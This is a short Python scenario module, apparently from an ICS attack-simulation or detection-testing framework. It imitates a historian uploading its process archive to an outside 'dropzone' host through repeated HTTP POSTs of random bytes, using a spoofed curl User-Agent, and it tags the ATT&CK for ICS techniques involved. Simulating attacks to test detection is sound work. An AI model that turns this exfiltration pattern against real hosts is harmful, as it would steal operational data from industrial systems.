"""The historian's archive is uploaded to a server outside."""

from __future__ import annotations

import contextlib

import requests

from ..node import Node

TITLE = "Process archive uploaded from the historian to a server outside"
TECHNIQUES = ("T0882", "T0811", "T0869")
ORIGIN = "historian"
ENTITIES = ("historian", "dropzone")
EVIDENCE = "http.request.method == POST && ip.dst == 198.51.100.77"

UPLOADS, SIZE = 4, 900_000


def run(node: Node) -> None:
    """A few megabytes in a few posts."""
    for _ in range(UPLOADS):
        with contextlib.suppress(requests.RequestException):
            requests.post(
                f"http://{node.peer('dropzone')}/u",
                data=node.rng.randbytes(SIZE),
                timeout=5,
                headers={"Content-Type": "application/octet-stream", "User-Agent": "curl/7.88.1"},
            )
        node.pause(0.8)
